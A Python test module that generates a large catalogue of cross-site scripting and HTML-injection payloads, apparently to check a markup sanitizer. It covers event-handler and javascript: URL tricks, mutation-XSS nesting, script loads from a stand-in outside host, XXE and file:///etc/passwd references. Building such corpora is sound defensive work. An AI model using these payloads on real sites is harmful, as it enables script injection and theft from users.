"""Hostile texts by combination: tags and handlers, addresses and their disguises, nesting and what browsers make of it.

`MARK` is what a payload does to the page when it runs; `OUTSIDE` is whom one that loads would ask.
"""

from collections.abc import Iterator
from itertools import cycle, product

from tests.unit.markup.payload_kinds import kinds

OUTSIDE = "https://outside.invalid"
MARK = "document.documentElement.dataset.owned=1"

HARMLESS = set(
    "a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h1"
    " h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot"
    " th thead time tr u ul var wbr".split()
)
"""The tags that may be left of any text."""

_TAGS = (
    "a abbr article aside audio b blockquote body br button canvas center code custom-tag dd del details dialog div dl"
    " dt em embed fieldset figcaption figure font form frame frameset h1 head hr html i iframe image img input isindex"
    " kbd keygen label layer legend li link listing main map marquee math menu meta meter nav noscript object ol option"
    " output p param plaintext portal pre progress q search section select slot source span strike style sub summary"
    " svg table tbody td template textarea th time title tr track u ul var video wbr xmp"
).split()
_HANDLERS = (
    "onload onerror onclick onfocus onmouseover ontoggle onanimationstart ontransitionend onbegin onpageshow onscroll"
    " onpointerrawupdate onbeforematch oncontentvisibilityautostatechange onfocusin onwheel onloadstart oncanplay"
    " onbeforetoggle onscrollend onhashchange onmessage onpopstate onunload onsearch onbounce onfinish onstart"
).split()
_HANDLED = (
    "<{tag} {on}={code}>x</{tag}>",
    '<{tag} {on}="{code}">x</{tag}>',
    "<{tag} {ON}='{code}' autofocus tabindex=1 open>x",
    "<{tag}/{on}={code}//>x",
    "<{tag}\n{on}\n=\n{code}\n>x",
    '<{tag} src="x"{on}={code} style="animation: x 1s">x',
    "<{tag} x='<!--' {on}={code}>x-->",
    "<{tag}\x0c{on}={code}>x",
    '<{tag} a="`"{on}="{code}" b="`">x',
    "<<{tag} {on}={code}>x",
    "<{tag} &#111;nload={code} {on}={code}>x</{tag} {on}={code}>",
)

_ADDRESSES = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    " javascript:{code}",
    "\x01javascript:{code}",
    "java\tscript:{code}",
    "java&#x0A;script:{code}",
    "java&Tab;script&colon;{code}",
    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58{code}",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{code}",
    "&amp;#106;avascript:{code}",
    "javascript&#0000058{code}",
    "java\u00adscript:{code}",
    "\u200bjavascript:{code}",
    "javascript://%0a{code}",
    "javascript:/*--></title></style></textarea></script>*/{code}",
    "view-source:javascript:{code}",
    "feed:javascript:{code}",
    "jar:javascript:{code}",
    "livescript:{code}",
    "mocha:{code}",
    "vbscript:{code}",
    "data:text/html,<script>{code}</script>",
    "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{code}'/>",
    "data:,x",
    "blob:https://outside.invalid/x",
    "filesystem:https://outside.invalid/x",
    "file:///etc/passwd",
    "rdesk://page/",
    "rdesk://style/x",
    "qrc:/x",
    "chrome://version",
    "about:blank",
    "ws://outside.invalid",
    "intent://x#Intent;end",
    "ms-msdt:/id x",
    "tel:1",
    "\\\\outside.invalid\\share\\x",
    "[javascript:{code}]",
)
_CARRIERS = (
    '<a href="{address}">x</a>',
    "<a href='{address}' target=_top>x</a>",
    "<img src='{address}' srcset='{address} 2x' lowsrc='{address}' dynsrc='{address}' longdesc='{address}'>",
    '<blockquote cite="{address}">x</blockquote><q cite="{address}">x</q><ins cite="{address}">x</ins>',
    '<form action="{address}"><button formaction="{address}">x</button><input type=image src="{address}"></form>',
    '<table background="{address}"><tr><td background="{address}">x</td></tr></table>',
    '<object data="{address}"></object><embed src="{address}"><iframe src="{address}"></iframe>',
    '<svg><a xlink:href="{address}"><text y=9>x</text></a><image href="{address}"/><use href="{address}#x"/></svg>',
    '<math href="{address}"><mi xlink:href="{address}">x</mi></math>',
    '<base href="{address}"><link rel=stylesheet href="{address}"><meta http-equiv=refresh content="0;url={address}">',
    "[x]({address})",
    "[x](<{address}> 'x')",
    "![x]({address})",
    "![x](<{address}>)",
    "[x][r]\n\n[r]: {address}",
    "[x][q]\n\n[q]: <{address}>",
    "<{address}>",
    "/// embed | {address}\nx\n///",
    "/// also-read | {address}\nx\n///",
    "/// spoiler | {address}\n[x]({address})\n///",
    "[^n]\n\n[^n]: [x]({address})",
)

_ELEMENTS = (
    "<script>{code}</script>",
    "<script src='{outside}/a.js'></script>",
    "<SCRIPT\t>{code}</SCRIPT\t>",
    "<script/x>{code}</script>",
    "<scr<script>ipt>{code}</scr</script>ipt>",
    "<script type=module>import '{outside}/a.js'</script>",
    "<script>{code}",
    "<svg><script>{code}</script></svg>",
    "<svg><script href='data:,{code}'/></svg>",
    "<svg onload={code}>",
    "<svg><animate attributeName=href values='javascript:{code}' /><a id=x><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to='{code}'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{code}</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={code}/>#x'></svg>",
    "<svg><style>@import '{outside}/a.css'</style></svg>",
    "<svg><image href='{outside}/a.png' onerror={code}></svg>",
    "<svg><filter><feImage href='{outside}/a.svg'/></filter></svg>",
    "<math><maction actiontype=statusline#{outside} xlink:href='javascript:{code}'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={code}></annotation-xml></math>",
    "<iframe srcdoc='<script>{code}</script>'></iframe>",
    "<iframe src='{outside}/frame'></iframe>",
    "<frameset><frame src='{outside}/frame'></frameset>",
    "<object data='{outside}/o'><param name=movie value='{outside}/p'></object>",
    "<embed src='{outside}/e' allowscriptaccess=always>",
    "<applet code=x codebase='{outside}'></applet>",
    "<portal src='{outside}'></portal>",
    "<fencedframe src='{outside}'></fencedframe>",
    "<base href='{outside}/'><a href='x'>x</a>",
    "<base target=_blank>",
    "<meta http-equiv=refresh content='0;url={outside}'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<meta charset=utf-7>+ADw-script+AD4-{code}+ADw-/script+AD4-",
    "<link rel=stylesheet href='{outside}/a.css'><link rel=preload as=image href='{outside}/a.png'>",
    "<link rel=dns-prefetch href='{outside}'><link rel=prerender href='{outside}'>",
    "<style>@import '{outside}/a.css'; *{{background:url({outside}/b.png)}}</style>",
    "<style>p{{position:fixed;inset:0;background:red}}",
    "<style><img src='</style><img src=x onerror={code}>'></style>",
    "<p style='background:url({outside}/a.png)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999;background:red'>x</p>",
    "<td style='text-align:center;background:url({outside}/a)'>x</td>",
    "<table><tr><td style='text-align:url({outside}/a);text-align:expression({code})'>x</td></tr></table>",
    "<table><tr><td style='text-align:c\\65nter;\\62 ackground:url({outside}/a)'>x</td></tr></table>",
    "<table><tr><td style='text-align:left/*}}*/;behavior:url({outside}/a);-moz-binding:url({outside}/b)'>x</td></tr>",
    "<form action='{outside}' method=post><input name=a value=1><button>x</button></form>",
    "<form id=x></form><button form=x formaction='javascript:{code}'>x</button>",
    "<input autofocus onfocus={code}><select autofocus onfocus={code}><textarea autofocus onfocus={code}>",
    "<video src='{outside}/v' poster='{outside}/p' autoplay onplay={code}><source src='{outside}/s' onerror={code}>",
    "<audio src='{outside}/a' autoplay></audio>",
    "<img src='{outside}/a.png' srcset='{outside}/b.png 2x' onerror={code}>",
    "<picture><source srcset='{outside}/a.png'><img src='{outside}/b.png'></picture>",
    "<img src=x onerror={code}",
    "<input type=image src='{outside}/a.png' onerror={code}>",
    "<a href=x ping='{outside}/ping' download='x.exe'>x</a>",
    "<a href='{outside}' attributionsrc='{outside}/a'>x</a>",
    "<details open ontoggle={code}><summary onclick={code}>x</summary></details>",
    "<dialog open oncancel={code}>x</dialog>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle={code}>x</div>",
    "<template shadowrootmode=open><script>{code}</script></template>",
    "<div><template shadowrootmode=open><slot></slot><style>:host{{display:none}}</style></template></div>",
    "<img name=body><form name=getElementById><input name=attributes></form><a id=desk></a><a id=desk name=put></a>",
    "<main id=main><article class=review><h1>Fake</h1></article></main>",
    "<p id=previewPage class='review-box evil' data-theme=dark>x</p>",
    "<marquee onstart={code}>x</marquee><blink>x</blink>",
    "<isindex action='javascript:{code}' type=image>",
    "<bgsound src='{outside}/b'><layer src='{outside}/l'></layer>",
    "<xml id=x><a><b>&lt;script>{code}&lt;/script></b></a></xml>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:{code}'?><p>x</p>",
    "<?php system('x') ?><% x %><!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "<![CDATA[<script>{code}</script>]]>",
    "<!--[if IE]><script>{code}</script><![endif]-->",
    "<!--<img src='--><img src=x onerror={code}//'>",
    "<!--!><img src=x onerror={code}>-->",
    "<!--><img src=x onerror={code}>-->",
    "<!-- --!><img src=x onerror={code}> -->",
    "<!a><img src=x onerror={code}>",
    "</ <img src=x onerror={code}>>",
    "<//><img src=x onerror={code}>",
    "<!--desk:blocks--><!--desk:header--><!-- wp:html --><script>{code}</script><!-- /wp:html -->",
    '<!-- wp:block {{"ref":1}} /--><!--more--><!--nextpage-->',
    "[embed]{outside}[/embed] [caption]<img src=x onerror={code}>[/caption] [gallery ids=1]",
    "{{{{ 7*'7' }}}}{{% raw %}}<script>{code}</script>",
    "\u2028<script>{code}</script>\u2029",
    "<script\x00>{code}</script>",
    "<im\x00g src=x onerror={code}>",
    "\ufeff<img src=x onerror={code}>",
    "\uff1cscript\uff1e{code}\uff1c/script\uff1e",
    "%3Cscript%3E{code}%3C/script%3E",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&#60;img src=x onerror={code}&#62;",
    "\\<script>{code}</script>",
    "\x02klzzwxh:0000\x03<script>{code}</script>\x02wzxhzdk:0\x03",
    "\x02wzxhzdk:0\x03 \x02wzxhzdk:1\x03 <b onclick={code}>x</b>",
    "\x02amp\x03lt;script>{code}",
)

_MUTATIONS = (
    '<svg></p><style><a id="</style><img src=x onerror={code}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={code}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={code}>",
    '<math><mi><table><mglyph><style><math href="javascript:{code}">x</math></style></mglyph></table></mi></math>',
    '<svg><p><style><g title="</style><img src=x onerror={code}>"></svg>',
    '<noscript><p title="</noscript><img src=x onerror={code}>">',
    "<noscript><style></noscript><img src=x onerror={code}></style>",
    '<noembed><img title="</noembed><img src=x onerror={code}>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror={code}>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror={code}>"></textarea>',
    '<title><p title="</title><img src=x onerror={code}>"></title>',
    '<iframe><p title="</iframe><img src=x onerror={code}>"></iframe>',
    "<plaintext><img src=x onerror={code}>",
    "<listing>&lt;img src=x onerror={code}&gt;</listing>",
    "<pre>\n\n&lt;img src=x onerror={code}&gt;</pre>",
    '<p title="`<img src=x onerror={code}>">x</p>',
    "<p title='\"><img src=x onerror={code}>'>x</p>",
    '<p title="&quot;&gt;&lt;img src=x onerror={code}&gt;">x</p>',
    '<img alt="<x" src="y>" title=\'`\' onerror={code}>',
    '<img alt=\'" src=x onerror="{code}\' src="a.png">',
    "<a title='</p><script>{code}</script>' href=x>x</a>",
    "<svg><desc><table><style><!--</style><svg><img src=x onerror={code}>-->",
    "<svg><![CDATA[</svg><img src=x onerror={code}>]]></svg>",
    "<math><style><!--</style><img src='x' onerror='{code}'>--></math>",
    "<table><caption><svg><title><style><!--</style></title></svg><img src=x onerror={code}>-->",
    "<a><table><a><img src=x onerror={code}></a></table></a>",
    "<select><option><style></select><img src=x onerror={code}></style></option>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={code}>">',
    "<b><p><b><p><b><p></b></p><img src=x onerror={code}>",
    "<svg><font color=x><img src=x onerror={code}></font></svg>",
    '<mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror={code}>">',
    "<div><style>{{}}*{{x:</style><img src=x onerror={code}>}}</div>",
    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror={code}>">',
    '<a href="javascript&NewLine;:{code}"><b></a></b>x',
    "<image src=x onerror={code}>",
    "<p><table><tr><svg><style><img src='</style><img src=x onerror={code}>'>",
)

_BREAKERS = (
    "</div></div></article></main></body></html>",
    "</article><article>x",
    "</div>x</section>x</main>x",
    "<div><div><div>x",
    "<table><tr><td>x",
    "<table>x<p>y",
    "<table><tbody><tr><th>x</table></table></table>",
    "<blockquote><ul><li>x",
    "<p><div></p></div>x</p>",
    "<a href=x><a href=y>x",
    "<b><i><u><s><em><strong>x",
    "</b></i>x<b",
    "<pre><code>x",
    "<details><summary>x",
    "<dl><dt>x<dd>y",
    "<h1><h2><h3>x",
    "<ruby><rt>x",
    "<option><optgroup>x",
    "<li>x</ul></ol></dd></dl>",
    "<!-- x",
    "<!DOCTYPE x",
    "<![CDATA[ x",
    "<? x",
    '<a title="x',
    "<a title='x",
    "<a title=x",
    "<textarea>x",
    "<title>x",
    "<plaintext>x",
    "<xmp>x",
    "<noscript>x",
    "<select><option>x",
    "<template>x",
    "<svg><desc>x",
    "<math><mtext>x",
    "<frameset>x",
    "<figure><figcaption>x",
    "<tr><td>x</td></tr>",
    "<caption>x</caption><col><thead>x",
    "<body class=x><html lang=x><head>x",
    "/// spoiler | x\nx",
    "//// pull-quote\nx\n///",
    "/// embed | https://e.org\n</figure></div>\n///",
    "/// ad | </div></article>\n///",
    "/// spoiler | </summary></details></article>\nx\n///",
    "```\n</pre></div></article>",
    "[^1]: </li></ol></div></article>\n\n[^1]",
    "*[x]: </abbr></article>\n\nx",
    "{: onclick=x style=x id=x class=x }",
    "x {: onclick=x }",
    "# x {: onclick=x }",
)

_NESTS = (
    "> {0}",
    "> > 1. {0}",
    "- {0}",
    "1. x\n\n    {0}",
    "# {0}",
    "**{0}**",
    "[{0}](https://e.org)",
    "[x](https://e.org '{0}')",
    '[x](https://e.org "{0}")',
    "![{0}](a.png)",
    '![x](a.png "{0}")',
    "| a | b |\n|---|---|\n| {0} | x |",
    "x[^1]\n\n[^1]: {0}",
    "/// spoiler | {0}\n{0}\n///",
    "/// pull-quote\n{0}\n\ncite: {0}\n///",
    "/// embed | https://e.org/{0}\n{0}\n///",
    "/// also-read | a-slug\n{0}\n///",
    "/// ad | {0}\n///",
    "`{0}`",
    "```{0}\n{0}\n```",
    "term\n:   {0}",
    "*[x]: {0}\n\nx",
    "~~{0}~~",
    "<p>{0}</p>",
    "<div>\n{0}\n</div>",
    "<div markdown=1>\n{0}\n</div>",
    "<span title='{0}'>x</span>",
    '<span title="{0}">x</span>',
    "<table><tr><td>{0}</td></tr></table>",
    "<b><i>{0}",
    "<details><summary>{0}</summary>{0}</details>",
    "<!-- {0} -->",
    "<svg><title>{0}</title></svg>",
    "<math><mi>{0}</mi></math>",
    "<noscript>{0}</noscript>",
    "<style>{0}</style>",
    "{0}{0}",
    "&lt;{0}",
    "x\\\n{0}\\",
)
_NESTED = (
    "<script>{code}</script>",
    "<img src=x onerror={code}>",
    '"><img src=x onerror={code}>',
    "'><svg onload={code}>",
    "</style></title></textarea></script></noscript><svg/onload={code}>",
    "<iframe src='{outside}'></iframe>",
    "[x](javascript:{code})",
    "</article></main>",
)


def payloads() -> tuple[str, ...]:
    """Give them all, each once."""
    return tuple(dict.fromkeys((*_handled(), *_addressed(), *_plain(), *_nested())))


def _handled() -> Iterator[str]:
    shapes, handlers = cycle(_HANDLED), cycle(_HANDLERS)
    for tag in _TAGS * 2:
        on = next(handlers)
        yield next(shapes).format(tag=tag, on=on, ON=on.upper(), code=MARK)
    for on in _HANDLERS:
        yield f"<img src=x {on}={MARK}><b {on}='{MARK}'>x</b>"


def _addressed() -> Iterator[str]:
    for carrier, address in product(_CARRIERS, _ADDRESSES):
        yield carrier.format(address=address.format(code=MARK))


def _plain() -> Iterator[str]:
    for shape in (*_ELEMENTS, *_MUTATIONS, *kinds()):
        yield shape.format(code=MARK, outside=OUTSIDE)
    yield from _BREAKERS


def _nested() -> Iterator[str]:
    for nest, inner in product(_NESTS, _NESTED):
        yield nest.replace("{0}", inner.format(code=MARK, outside=OUTSIDE))
